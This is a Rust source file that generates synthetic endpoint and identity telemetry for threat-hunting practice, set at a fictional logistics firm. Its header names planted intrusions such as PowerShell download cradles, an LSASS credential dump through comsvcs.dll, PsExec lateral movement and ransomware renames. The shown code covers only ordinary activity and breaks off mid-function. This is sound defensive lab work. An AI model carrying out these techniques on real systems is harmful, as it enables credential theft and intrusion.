//! The built-in lab data set: a small fictional company, Kestrel Logistics (24 staff, 30 devices),
//! 30 days of ordinary activity ending at a chosen moment, and a handful of planted intrusions
//! that hunting queries should find:
//!
//! 1. phishing mail from a look-alike domain → click → script download (day −12);
//! 2. the script starts an encoded PowerShell download cradle, which drops a payload;
//! 3. scheduled-task persistence for the payload;
//! 4. an LSASS memory dump through comsvcs.dll MiniDump (day −10);
//! 5. PsExec lateral movement with a stolen admin account to the file and SQL servers (day −9);
//! 6. a plain-text `DownloadString` cradle on a second workstation (day −6);
//! 7. mass file renames to `.kestrel` on the file server, with a ransom note (day −3).
//!
//! Everything is generated from a seed with a fixed algorithm, so the same seed, scale and end
//! time give the same rows on every machine and every version.

// The event helpers take one argument per column group they fill; bundling them into structs
// would only move the same list elsewhere.
#![allow(clippy::too_many_arguments)]

use base64::Engine as _;
use serde_json::json;

use super::lab_table::{Row, TableBuilder, Val};
use crate::results::KqlType;

const SECOND: i64 = 1_000_000_000;
const MINUTE: i64 = 60 * SECOND;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;
/// How many days of activity the lab holds.
pub const LAB_DAYS: i64 = 30;

#[derive(Debug, Clone, PartialEq)]
pub struct LabOptions {
    /// Multiplies the volume of ordinary activity (the planted intrusions stay the same).
    pub scale: u32,
    pub seed: u64,
    /// The newest moment in the data, nanoseconds since 1970.
    pub end_nanos: i64,
}

impl LabOptions {
    pub fn ending_now(scale: u32) -> LabOptions {
        let now = chrono::Utc::now().timestamp_nanos_opt().unwrap_or(0);
        LabOptions {
            scale: scale.max(1),
            seed: 0x4855_4E54,
            end_nanos: now,
        }
    }
}

/// Every advanced hunting table with its columns, from Microsoft's published schema.
pub fn schema_tables() -> Vec<(String, Vec<(String, KqlType)>)> {
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("advanced-hunting-schema.json"))
            .expect("the bundled schema is valid JSON");
    let mut tables = Vec::new();
    if let Some(map) = schema["tables"].as_object() {
        for (table, columns) in map {
            let columns = columns
                .as_object()
                .map(|c| {
                    c.iter()
                        .map(|(name, ty)| {
                            (
                                name.clone(),
                                KqlType::from_kql_name(ty.as_str().unwrap_or(""))
                                    .unwrap_or(KqlType::String),
                            )
                        })
                        .collect()
                })
                .unwrap_or_default();
            tables.push((table.clone(), columns));
        }
    }
    tables
}

/// SplitMix64: tiny, fast, and its sequence never changes between versions (unlike a library's
/// default generator), which keeps the lab reproducible.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next_u64() % n }
    }

    pub fn range(&mut self, low: i64, high: i64) -> i64 {
        low + self.below((high - low).max(1) as u64) as i64
    }

    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    pub fn guid(&mut self) -> String {
        let (a, b) = (self.next_u64(), self.next_u64());
        format!(
            "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            a & 0xfff,
            0x8000 | (b >> 48) & 0x3fff,
            b & 0xffff_ffff_ffff
        )
    }

    pub fn hex(&mut self, chars: usize) -> String {
        let mut out = String::with_capacity(chars);
        while out.len() < chars {
            out.push_str(&format!("{:016x}", self.next_u64()));
        }
        out.truncate(chars);
        out
    }
}

/// A stable digest-looking hex string for a name (the same file always has the same hash).
fn digest(name: &str, chars: usize) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
    }
    Rng::new(h).hex(chars)
}

struct User {
    name: &'static str,
    account: String,
    upn: String,
    sid: String,
    object_id: String,
    department: &'static str,
    title: &'static str,
}

const STAFF: &[(&str, &str, &str)] = &[
    ("Avery Morgan", "Executive", "Chief Executive Officer"),
    ("Dana Whitfield", "Finance", "Accounts Payable Specialist"),
    ("Jamie Chen", "IT", "Systems Administrator"),
    ("Priya Raman", "IT", "Security Analyst"),
    ("Lucas Ferreira", "Operations", "Dispatch Coordinator"),
    ("Mia Kowalski", "Operations", "Fleet Manager"),
    ("Noah Adeyemi", "Finance", "Controller"),
    ("Sofia Lindqvist", "Sales", "Account Executive"),
    ("Ethan Brooks", "Sales", "Sales Manager"),
    ("Hana Sato", "HR", "HR Generalist"),
    ("Omar Haddad", "Engineering", "Software Engineer"),
    ("Chloe Martin", "Engineering", "Software Engineer"),
    ("Mateo Rossi", "Operations", "Warehouse Supervisor"),
    ("Grace Okafor", "Legal", "Counsel"),
    ("Leo Novak", "Engineering", "DevOps Engineer"),
    ("Isla MacLeod", "Customer Service", "Support Lead"),
    ("Ravi Patel", "Finance", "Payroll Specialist"),
    ("Zoe Dubois", "Marketing", "Marketing Manager"),
    ("Felix Wagner", "Operations", "Logistics Planner"),
    ("Amara Nwosu", "Customer Service", "Support Agent"),
    ("Kai Nakamura", "Sales", "Account Executive"),
    ("Elena Petrova", "HR", "Recruiter"),
    ("Samir Aziz", "IT", "Help Desk Technician"),
    ("Nora Jensen", "Executive", "Chief Financial Officer"),
];

const DOMAIN: &str = "kestrel";
const MAIL_DOMAIN: &str = "kestrel.example";
const SID_PREFIX: &str = "S-1-5-21-3623811015-3361044348-30300820";

struct Device {
    id: String,
    name: String,
    ip: String,
    server: bool,
    /// Index into the users of the person who uses it (workstations).
    owner: Option<usize>,
    os: &'static str,
}

/// A running process, enough to fill the Initiating* columns of the events it causes.
#[derive(Clone)]
struct Proc {
    file: String,
    folder: String,
    command: String,
    pid: i64,
    created: i64,
    account: String,
    account_sid: String,
    account_upn: String,
    integrity: &'static str,
    parent_file: String,
    parent_pid: i64,
    parent_created: i64,
}

impl Proc {
    fn path(&self) -> String {
        format!("{}\\{}", self.folder, self.file)
    }
}

fn company_of(file: &str) -> (&'static str, &'static str) {
    match file.to_ascii_lowercase().as_str() {
        "chrome.exe" => ("Google LLC", "Google Chrome"),
        "msedge.exe" => ("Microsoft Corporation", "Microsoft Edge"),
        "outlook.exe" | "excel.exe" | "winword.exe" => {
            ("Microsoft Corporation", "Microsoft Office")
        }
        "ms-teams.exe" => ("Microsoft Corporation", "Microsoft Teams"),
        "code.exe" => ("Microsoft Corporation", "Visual Studio Code"),
        "git.exe" => ("The Git Development Community", "Git"),
        "psexec.exe" | "psexesvc.exe" => {
            ("Sysinternals - www.sysinternals.com", "Sysinternals PsExec")
        }
        "updsvc.exe" | "kx.exe" => ("", ""),
        _ => (
            "Microsoft Corporation",
            "Microsoft® Windows® Operating System",
        ),
    }
}

/// The Initiating* columns every Device* table shares, plus the device columns.
fn context(device: &Device, time: i64, report: i64, p: &Proc) -> Row {
    let (company, product) = company_of(&p.file);
    vec![
        ("Timestamp", Val::T(time)),
        ("DeviceId", device.id.as_str().into()),
        ("DeviceName", device.name.as_str().into()),
        ("ReportId", Val::L(report)),
        ("InitiatingProcessFileName", p.file.as_str().into()),
        ("InitiatingProcessFolderPath", p.path().into()),
        ("InitiatingProcessCommandLine", p.command.as_str().into()),
        ("InitiatingProcessId", Val::L(p.pid)),
        ("InitiatingProcessCreationTime", Val::T(p.created)),
        (
            "InitiatingProcessParentFileName",
            p.parent_file.as_str().into(),
        ),
        ("InitiatingProcessParentId", Val::L(p.parent_pid)),
        (
            "InitiatingProcessParentCreationTime",
            Val::T(p.parent_created),
        ),
        (
            "InitiatingProcessAccountDomain",
            if p.account.contains(' ') {
                "nt authority".into()
            } else {
                DOMAIN.into()
            },
        ),
        ("InitiatingProcessAccountName", p.account.as_str().into()),
        ("InitiatingProcessAccountSid", p.account_sid.as_str().into()),
        ("InitiatingProcessAccountUpn", p.account_upn.as_str().into()),
        ("InitiatingProcessIntegrityLevel", p.integrity.into()),
        (
            "InitiatingProcessTokenElevation",
            if p.integrity == "High" || p.integrity == "System" {
                "TokenElevationTypeFull".into()
            } else {
                "TokenElevationTypeLimited".into()
            },
        ),
        ("InitiatingProcessSHA1", digest(&p.file, 40).into()),
        ("InitiatingProcessSHA256", digest(&p.file, 64).into()),
        ("InitiatingProcessMD5", digest(&p.file, 32).into()),
        (
            "InitiatingProcessFileSize",
            Val::L(
                50_000 + (digest(&p.file, 6).len() as i64 * 7919) + p.file.len() as i64 * 104_729,
            ),
        ),
        ("InitiatingProcessVersionInfoCompanyName", company.into()),
        ("InitiatingProcessVersionInfoProductName", product.into()),
        (
            "InitiatingProcessVersionInfoOriginalFileName",
            p.file.as_str().into(),
        ),
        (
            "InitiatingProcessVersionInfoInternalFileName",
            p.file.trim_end_matches(".exe").into(),
        ),
        (
            "InitiatingProcessSessionId",
            Val::L(if p.integrity == "System" { 0 } else { 1 }),
        ),
        ("IsInitiatingProcessRemoteSession", Val::B(false)),
        (
            "InitiatingProcessUniqueId",
            Val::S(format!(
                "{}",
                p.pid * 1_000_003 + p.created.rem_euclid(1_000_000)
            )),
        ),
    ]
}

/// One delivered mail, as `Lab::mail` records it.
struct Mail<'a> {
    time: i64,
    sender: &'a str,
    sender_name: &'a str,
    sender_ip: &'a str,
    recipient: usize,
    subject: &'a str,
    bulk: bool,
    authentication: serde_json::Value,
    url: Option<&'a str>,
    attachments: i64,
}

struct Lab {
    rng: Rng,
    options: LabOptions,
    start: i64,
    users: Vec<User>,
    devices: Vec<Device>,
    report: i64,
    tables: std::collections::BTreeMap<String, TableBuilder>,
}

pub type GeneratedTable = (
    String,
    Vec<(String, KqlType)>,
    datafusion::arrow::record_batch::RecordBatch,
);

/// Generates every advanced hunting table: the seventeen the lab fills and the rest empty, with
/// their full column sets.
pub fn generate(
    options: &LabOptions,
) -> Result<Vec<GeneratedTable>, datafusion::arrow::error::ArrowError> {
    generate_with_progress(options, &|_| {})
}

/// `generate`, telling `progress` how far it has come (`building the lab data: day 12 of 31`):
/// at a large scale generation takes seconds, and the console shows this meanwhile.
pub fn generate_with_progress(
    options: &LabOptions,
    progress: &dyn Fn(String),
) -> Result<Vec<GeneratedTable>, datafusion::arrow::error::ArrowError> {
    let mut lab = Lab::new(options.clone());
    lab.ordinary_activity(progress);
    lab.intrusions();
    progress("building the lab data: assembling the tables".to_string());
    lab.tables.into_values().map(TableBuilder::finish).collect()
}

impl Lab {
    fn new(options: LabOptions) -> Lab {
        let mut rng = Rng::new(options.seed);
        let tables = schema_tables()
            .into_iter()
            .map(|(name, columns)| (name.clone(), TableBuilder::new(&name, columns)))
            .collect();
        let users: Vec<User> = STAFF
            .iter()
            .enumerate()
            .map(|(i, (name, department, title))| {
                let (first, last) = name.split_once(' ').unwrap_or((name, ""));
                let account = format!("{}{}", &first[..1], last).to_ascii_lowercase();
                User {
                    name,
                    upn: format!("{account}@{MAIL_DOMAIN}"),
                    sid: format!("{SID_PREFIX}-{}", 1104 + i),
                    object_id: rng.guid(),
                    account,
                    department,
                    title,
                }
            })
            .collect();
        let mut devices = Vec::new();
        for (i, _) in users.iter().enumerate() {
            devices.push(Device {
                id: rng.hex(40),
                name: format!("ws-{:04}.{DOMAIN}.local", 101 + i),
                ip: format!("10.20.{}.{}", 1 + i / 200, 10 + i % 200),
                server: false,
                owner: Some(i),
                os: "Windows11",
            });
        }
        for (i, name) in ["dc01", "dc02", "fs01", "sql01", "app01", "web01"]
            .iter()
            .enumerate()
        {
            devices.push(Device {
                id: rng.hex(40),
                name: format!("{name}.{DOMAIN}.local"),
                ip: format!("10.10.0.{}", 10 + i),
                server: true,
                owner: None,
                os: "WindowsServer2022",
            });
        }
        let start = options.end_nanos - LAB_DAYS * DAY;
        Lab {
            rng,
            options,
            start,
            users,
            devices,
            report: 1000,
            tables,
        }
    }

    fn push(&mut self, table: &str, row: Row) {
        self.report += 1;
        // Activity on the partial first and last days can fall outside the window: before it, or
        // not happened yet.
        let (start, end) = (self.start, self.options.end_nanos);
        let outside = |t: &i64| *t > end || *t < start;
        if row
            .iter()
            .any(|(name, value)| *name == "Timestamp" && matches!(value, Val::T(t) if outside(t)))
        {
            return;
        }
        if let Some(builder) = self.tables.get_mut(table) {
            builder.push(row);
        }
    }

    fn next_report(&mut self) -> i64 {
        self.report += 1;
        self.report
    }

    /// A time on calendar day `day` (0 = the day the window starts), in working hours most of the
    /// time.
    fn time_on(&mut self, day: i64, working: bool) -> i64 {
        let hour = if working && self.rng.chance(0.9) {
            self.rng.range(7, 19)
        } else {
            self.rng.range(0, 24)
        };
        // Days are calendar days (UTC) so that working hours fall in the working day; the first
        // and last are partial, and `push` drops what falls outside the window.
        let first_midnight = self.start - self.start.rem_euclid(DAY);
        first_midnight + day * DAY + hour * HOUR + self.rng.range(0, HOUR)
    }

    /// A moment `days_ago` before the end, at `hour:minute` on that day's clock.
    fn planted(&self, days_ago: i64, hour: i64, minute: i64) -> i64 {
        let day_start = self.options.end_nanos - days_ago * DAY;
        let base = day_start - day_start.rem_euclid(DAY);
        base + hour * HOUR + minute * MINUTE + 712_345_600
    }

    fn system_proc(&mut self, file: &str, command: &str, created: i64) -> Proc {
        Proc {
            file: file.to_string(),
            folder: "C:\\Windows\\System32".to_string(),
            command: command.to_string(),
            pid: self.rng.range(400, 2000),
            created,
            account: "system".to_string(),
            account_sid: "S-1-5-18".to_string(),
            account_upn: String::new(),
            integrity: "System",
            parent_file: "services.exe".to_string(),
            parent_pid: 708,
            parent_created: created - 3 * HOUR,
        }
    }

    fn user_proc(
        &mut self,
        user: usize,
        file: &str,
        folder: &str,
        command: &str,
        created: i64,
        parent: (&str, i64, i64),
    ) -> Proc {
        let u = &self.users[user];
        Proc {
            file: file.to_string(),
            folder: folder.to_string(),
            command: command.to_string(),
            pid: self.rng.range(2000, 30000),
            created,
            account: u.account.clone(),
            account_sid: u.sid.clone(),
            account_upn: u.upn.clone(),
            integrity: "Medium",
            parent_file: parent.0.to_string(),
            parent_pid: parent.1,
            parent_created: parent.2,
        }
    }

    /// Records that `parent` started `child` on `device`.
    fn process_created(&mut self, device: usize, parent: &Proc, child: &Proc) {
        let report = self.next_report();
        let d = &self.devices[device];
        let mut row = context(d, child.created, report, parent);
        let (company, product) = company_of(&child.file);
        row.extend([
            ("ActionType", "ProcessCreated".into()),
            ("FileName", child.file.as_str().into()),
            ("FolderPath", child.path().into()),
            ("ProcessCommandLine", child.command.as_str().into()),
            ("ProcessId", Val::L(child.pid)),
            ("ProcessCreationTime", Val::T(child.created)),
            ("ProcessIntegrityLevel", child.integrity.into()),
            ("ProcessTokenElevation", if child.integrity == "Medium" { "TokenElevationTypeLimited".into() } else { "TokenElevationTypeFull".into() }),
            ("AccountDomain", DOMAIN.into()),
            ("AccountName", child.account.as_str().into()),
            ("AccountSid", child.account_sid.as_str().into()),
            ("AccountUpn", child.account_upn.as_str().into()),
            ("SHA1", digest(&child.file, 40).into()),
            ("SHA256", digest(&child.file, 64).into()),
            ("MD5", digest(&child.file, 32).into()),
            ("FileSize", Val::L(40_000 + child.file.len() as i64 * 52_361)),
            ("ProcessVersionInfoCompanyName", company.into()),
            ("ProcessVersionInfoProductName", product.into()),
            ("ProcessVersionInfoOriginalFileName", child.file.as_str().into()),
            ("ProcessVersionInfoInternalFileName", child.file.trim_end_matches(".exe").into()),
            ("ProcessVersionInfoFileDescription", product.into()),
            ("AdditionalFields", Val::S(json!({"TokenElevationType": if child.integrity == "Medium" { "TokenElevationTypeLimited" } else { "TokenElevationTypeFull" }, "ProcessPosixProcessGroupId": null}).to_string())),
            ("CreatedProcessSessionId", Val::L(if child.integrity == "System" { 0 } else { 1 })),
            ("IsProcessRemoteSession", Val::B(false)),
            ("ProcessUniqueId", Val::S(format!("{}", child.pid * 1_000_003 + child.created.rem_euclid(1_000_000)))),
        ]);
        self.push("DeviceProcessEvents", row);
    }

    fn connection(
        &mut self,
        device: usize,
        p: &Proc,
        time: i64,
        remote_ip: &str,
        port: i64,
        url: &str,
        action: &str,
    ) {
        let report = self.next_report();
        let d = &self.devices[device];
        let mut row = context(d, time, report, p);
        let private = remote_ip.starts_with("10.");
        row.extend([
            ("ActionType", action.into()),
            ("RemoteIP", remote_ip.into()),
            ("RemotePort", Val::L(port)),
            ("RemoteUrl", url.into()),
            ("LocalIP", d.ip.as_str().into()),
            ("LocalPort", Val::L(49152 + (report % 16000))),
            (
                "Protocol",
                if port == 53 {
                    "Udp".into()
                } else {
                    "Tcp".into()
                },
            ),
            ("LocalIPType", "Private".into()),
            (
                "RemoteIPType",
                if private {
                    "Private".into()
                } else {
                    "Public".into()
                },
            ),
        ]);
        self.push("DeviceNetworkEvents", row);
    }

    fn file_event(
        &mut self,
        device: usize,
        p: &Proc,
        time: i64,
        action: &str,
        folder: &str,
        file: &str,
        extra: Row,
    ) {
        let report = self.next_report();
        let d = &self.devices[device];
        let mut row = context(d, time, report, p);
        let path = format!("{folder}\\{file}");
        row.extend([
            ("ActionType", action.into()),
            ("FileName", file.into()),
            ("FolderPath", path.as_str().into()),
            ("SHA1", digest(&path, 40).into()),
            ("SHA256", digest(&path, 64).into()),
            ("MD5", digest(&path, 32).into()),
            ("FileSize", Val::L(1024 + (report * 7919) % 4_000_000)),
        ]);
        row.extend(extra);
        self.push("DeviceFileEvents", row);
    }

    fn registry_event(
        &mut self,
        device: usize,
        p: &Proc,
        time: i64,
        action: &str,
        key: &str,
        value_name: &str,
        data: &str,
    ) {
        let report = self.next_report();
        let mut row = context(&self.devices[device], time, report, p);
        row.extend([
            ("ActionType", action.into()),
            ("RegistryKey", key.into()),
            ("RegistryValueName", value_name.into()),
            ("RegistryValueData", data.into()),
            (
                "RegistryValueType",
                if data.is_empty() {
                    "".into()
                } else {
                    "String".into()
                },
            ),
        ]);
        self.push("DeviceRegistryEvents", row);
    }

    fn device_event(&mut self, device: usize, p: &Proc, time: i64, action: &str, extra: Row) {
        let report = self.next_report();
        let mut row = context(&self.devices[device], time, report, p);
        row.push(("ActionType", action.into()));
        row.extend(extra);
        self.push("DeviceEvents", row);
    }

    fn image_load(&mut self, device: usize, p: &Proc, time: i64, folder: &str, dll: &str) {
        let report = self.next_report();
        let mut row = context(&self.devices[device], time, report, p);
        let path = format!("{folder}\\{dll}");
        row.extend([
            ("ActionType", "ImageLoaded".into()),
            ("FileName", dll.into()),
            ("FolderPath", path.as_str().into()),
            ("SHA1", digest(&path, 40).into()),
            ("SHA256", digest(&path, 64).into()),
            ("MD5", digest(&path, 32).into()),
            ("FileSize", Val::L(200_000 + (report * 104_729) % 3_000_000)),
        ]);
        self.push("DeviceImageLoadEvents", row);
    }

    fn logon(
        &mut self,
        device: usize,
        time: i64,
        action: &str,
        logon_type: &str,
        account: (&str, &str),
        remote: (&str, &str),
        protocol: &str,
        failure: &str,
    ) {
        let report = self.next_report();
        let lsass = self.system_proc(
            "lsass.exe",
            "C:\\Windows\\system32\\lsass.exe",
            time - 5 * DAY,
        );
        let mut row = context(&self.devices[device], time, report, &lsass);
        row.extend([
            ("ActionType", action.into()),
            ("LogonType", logon_type.into()),
            ("AccountDomain", DOMAIN.into()),
            ("AccountName", account.0.into()),
            ("AccountSid", account.1.into()),
            ("Protocol", protocol.into()),
            ("FailureReason", failure.into()),
            ("IsLocalAdmin", Val::B(account.0.starts_with("adm-"))),
            ("LogonId", Val::L(report * 31 % 9_999_999)),
            ("RemoteDeviceName", remote.0.into()),
            ("RemoteIP", remote.1.into()),
            (
                "RemoteIPType",
                if remote.1.is_empty() {
                    "".into()
                } else {
                    "Private".into()
                },
            ),
            (
                "RemotePort",
                if remote.1.is_empty() {
                    Val::Null
                } else {
                    Val::L(49152 + report % 16000)
                },
            ),
        ]);
        self.push("DeviceLogonEvents", row);
    }

    // ---- ordinary activity ---------------------------------------------------------------------

    fn ordinary_activity(&mut self, progress: &dyn Fn(String)) {
        let scale = i64::from(self.options.scale);
        self.device_inventory();
        self.identities();
        for day in 0..=LAB_DAYS {
            progress(format!(
                "building the lab data: day {} of {}",
                day + 1,
                LAB_DAYS + 1
            ));
            let weekday = (self.start / DAY + day + 4).rem_euclid(7); // 1970-01-01 was a Thursday
            let weekend = weekday == 0 || weekday == 6;
            for device in 0..self.devices.len() {
                let busy = if weekend { 1 } else { 6 };
                for _ in 0..busy * scale {
                    if self.devices[device].server {
                        self.server_burst(device, day);
                    } else {
                        self.workstation_burst(device, day);
                    }
                }
            }
            for _ in 0..(if weekend { 4 } else { 25 }) * scale {
                self.ordinary_mail(day);
            }
            for _ in 0..(if weekend { 3 } else { 12 }) * scale {
                self.ordinary_cloud_activity(day);
            }
        }
        for _ in 0..6 {
            self.benign_alert();
        }
    }

    fn device_inventory(&mut self) {
        for device in 0..self.devices.len() {
            for day in (0..LAB_DAYS).step_by(3) {
                let time = self.start + day * DAY + 2 * HOUR + self.rng.range(0, HOUR);
                let report = self.next_report();
                let d = &self.devices[device];
                let logged_on = d.owner.map(|o| json!([{"UserName": self.users[o].account, "DomainName": DOMAIN.to_ascii_uppercase(), "Sid": self.users[o].sid}]).to_string()).unwrap_or("[]".into());
                let row: Row = vec![
                    ("Timestamp", Val::T(time)),
                    ("DeviceId", d.id.as_str().into()),
                    ("DeviceName", d.name.as_str().into()),
                    ("ReportId", Val::L(report)),
                    ("ClientVersion", "10.8760.26100.3775".into()),
                    ("PublicIP", "203.0.113.24".into()),
                    ("OSArchitecture", "64-bit".into()),
                    ("OSPlatform", d.os.into()),
                    ("OSBuild", Val::L(if d.server { 20348 } else { 26100 })),
                    (
                        "OSVersion",
                        if d.server {
                            "10.0".into()
                        } else {
                            "24H2".into()
                        },
                    ),
                    ("OSDistribution", "".into()),
                    ("IsAzureADJoined", Val::B(!d.server)),
                    (
                        "JoinType",
                        if d.server {
                            "Domain Joined".into()
                        } else {
                            "Hybrid Azure AD Join".into()
                        },
                    ),
                    ("AadDeviceId", digest(&d.name, 32).into()),
                    ("LoggedOnUsers", logged_on.into()),
                    (
                        "MachineGroup",
                        if d.server {
                            "Servers".into()
                        } else {
                            "Workstations".into()
                        },
                    ),
                    ("OnboardingStatus", "Onboarded".into()),
                    ("DeviceCategory", "Endpoint".into()),
                    (
                        "DeviceType",
                        if d.server {
                            "Server".into()
                        } else {
                            "Workstation".into()
                        },
                    ),
                    (
                        "Model",
                        if d.server {
                            "Virtual Machine".into()
                        } else {
                            "Latitude 7440".into()
                        },
                    ),
                    (
                        "Vendor",
                        if d.server {
                            "Microsoft Corporation".into()
                        } else {
                            "Dell Inc.".into()
                        },
                    ),
                    ("SensorHealthState", "Active".into()),
                    (
                        "ExposureLevel",
                        if d.name.starts_with("web01") {
                            "High".into()
                        } else {
                            "Medium".into()
                        },
                    ),
                    (
                        "AssetValue",
                        if d.name.starts_with("dc") {
                            "High".into()
                        } else {
                            "Normal".into()
                        },
                    ),
                    ("IsInternetFacing", Val::B(d.name.starts_with("web01"))),
                    ("IsExcluded", Val::B(false)),
                    ("IsTransient", Val::B(false)),
                    ("ConnectivityType", "Wired".into()),
                    ("Site", "Rotterdam HQ".into()),
                ];
                self.push("DeviceInfo", row);
            }
        }
    }

    fn identities(&mut self) {
        for i in 0..self.users.len() {
            let time = self.start + DAY + self.rng.range(0, HOUR);
            let report = self.rng.guid();
            let u = &self.users[i];
            let (given, surname) = u.name.split_once(' ').unwrap_or((u.name, ""));
            let roles = if u.department == "IT" {
                json!(["Helpdesk Administrator"])
            } else {
                json!([])
            };
            let row: Row = vec![
                ("Timestamp", Val::T(time)),
                ("ReportId", report.into()),
                ("AccountObjectId", u.object_id.as_str().into()),
                ("AccountUpn", u.upn.as_str().into()),
                ("OnPremSid", u.sid.as_str().into()),
                ("AccountDisplayName", u.name.into()),
                ("AccountName", u.account.as_str().into()),
                ("AccountDomain", format!("{DOMAIN}.local").into()),
                (
                    "CriticalityLevel",
                    Val::L(if u.department == "Executive" || u.department == "IT" {
                        1
                    } else {
                        0
                    }),
                ),
                ("Type", "User".into()),
                (
                    "DistinguishedName",
                    format!("CN={},OU={},DC={DOMAIN},DC=local", u.name, u.department).into(),
                ),
                ("GivenName", given.into()),
                ("Surname", surname.into()),
                ("Department", u.department.into()),
                ("JobTitle", u.title.into()),
                ("EmailAddress", u.upn.as_str().into()),
                ("City", "Rotterdam".into()),
                ("Country", "NL".into()),
                ("IsAccountEnabled", Val::B(true)),
                ("CompanyName", "Kestrel Logistics".into()),
                ("AssignedRoles", Val::J(roles)),
                ("Tags", Val::J(json!([]))),
                (
                    "SourceProviders",
                    Val::J(json!(["ActiveDirectory", "AzureActiveDirectory"])),
                ),
                ("RiskLevel", "Low".into()),
                ("IdentityEnvironment", "Hybrid".into()),
            ];
            self.push("IdentityInfo", row);
        }
    }

    fn workstation_burst(&mut self, device: usize, day: i64) {
        let user = self.devices[device].owner.unwrap_or(0);
        let time = self.time_on(day, true);
        let account = self.users[user].account.clone();
        let explorer = self.user_proc(
            user,
            "explorer.exe",
            "C:\\Windows",
            "C:\\Windows\\Explorer.EXE",
            time - 2 * HOUR,
            ("userinit.exe", 5120, time - 2 * HOUR - SECOND),
        );
        let parent = ("explorer.exe", explorer.pid, explorer.created);
        match self.rng.below(12) {
            0..=2 => {
                let (file, folder, command, hosts): (&str, &str, &str, &[(&str, &str)]) = if self
                    .rng
                    .chance(0.6)
                {
                    (
                        "chrome.exe",
                        "C:\\Program Files\\Google\\Chrome\\Application",
                        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
                        &[
                            ("142.250.179.196", "www.google.com"),
                            ("140.82.121.4", "github.com"),
                            ("151.101.1.69", "stackoverflow.com"),
                            ("13.107.42.14", "www.linkedin.com"),
                        ],
                    )
                } else {
                    (
                        "msedge.exe",
                        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
                        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default",
                        &[
                            ("13.107.21.200", "www.bing.com"),
                            ("20.190.160.20", "login.microsoftonline.com"),
                            ("52.96.166.130", "outlook.office365.com"),
                        ],
                    )
                };
                let browser = self.user_proc(user, file, folder, command, time, parent);
                self.process_created(device, &explorer, &browser);
                for _ in 0..self.rng.range(2, 6) {
                    let (ip, host) = *self.rng.pick(hosts);
                    let t = time + self.rng.range(SECOND, 20 * MINUTE);
                    self.connection(device, &browser, t, ip, 443, host, "ConnectionSuccess");
                }
                if self.rng.chance(0.3) {
                    let name = format!(
                        "{}_{}.pdf",
                        self.rng
                            .pick(&["report", "manifest", "invoice", "schedule", "rates"]),
                        self.rng.range(1000, 9999)
                    );
                    let folder = format!("C:\\Users\\{account}\\Downloads");
                    let t = time + self.rng.range(MINUTE, 30 * MINUTE);
                    let url = format!(
                        "https://{}/files/{name}",
                        self.rng.pick(&[
                            "sharepoint.kestrel.example",
                            "portal.northwind-freight.example",
                            "docs.rotterdamport.example"
                        ])
                    );
                    self.file_event(
                        device,
                        &browser,
                        t,
                        "FileCreated",
                        &folder,
                        &name,
                        vec![("FileOriginUrl", url.into())],
                    );
                }
            }
            3 | 4 => {
                let app = *self.rng.pick(&[("OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "outlook.office365.com", "52.96.166.130"), ("ms-teams.exe", "\"C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3314.2380_x64__8wekyb3d8bbwe\\ms-teams.exe\"", "teams.microsoft.com", "52.113.194.132")]);
                let folder = app
                    .1
                    .trim_matches('"')
                    .rsplit_once('\\')
                    .map_or("", |(f, _)| f)
                    .to_string();
                let process = self.user_proc(user, app.0, &folder, app.1, time, parent);
                self.process_created(device, &explorer, &process);
                for _ in 0..self.rng.range(1, 4) {
                    let t = time + self.rng.range(SECOND, HOUR);
                    self.connection(device, &process, t, app.3, 443, app.2, "ConnectionSuccess");
                }
            }
            5 => {
                let (file, ext) = *self
                    .rng
                    .pick(&[("EXCEL.EXE", "xlsx"), ("WINWORD.EXE", "docx")]);
                let doc = format!(
                    "{} {}.{ext}",
                    self.rng.pick(&[
                        "Q3 routes",
                        "Fuel costs",
                        "Driver roster",
                        "Budget",
                        "Customer list",
                        "Minutes"
                    ]),
                    self.rng.range(1, 30)
                );
                let folder = format!("C:\\Users\\{account}\\Documents");
                let command = format!(
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\{file}\" \"{folder}\\{doc}\""
                );
                let office = self.user_proc(
                    user,
                    file,
                    "C:\\Program Files\\Microsoft Office\\root\\Office16",
                    &command,
                    time,
                    parent,
                );
                self.process_created(device, &explorer, &office);
                let t = time + self.rng.range(MINUTE, HOUR);
                self.file_event(device, &office, t, "FileModified", &folder, &doc, vec![]);
                self.image_load(
                    device,
                    &office,
                    time + SECOND,
                    "C:\\Program Files\\Microsoft Office\\root\\Office16",
                    "mso.dll",
                );
            }
            6 => {
                // Administrators and engineers use shells; conhost follows every console program.
                let shell = if self.rng.chance(0.5) {
                    let command = *self.rng.pick(&["powershell.exe -NoProfile", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", "powershell.exe -Command Get-Process | Sort-Object CPU -Descending", "powershell.exe -NoProfile -Command \"Get-ChildItem $env:USERPROFILE\\Documents\""]);
                    self.user_proc(
                        user,
                        "powershell.exe",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                        command,
                        time,
                        parent,
                    )
                } else {
                    self.user_proc(
                        user,
                        "cmd.exe",
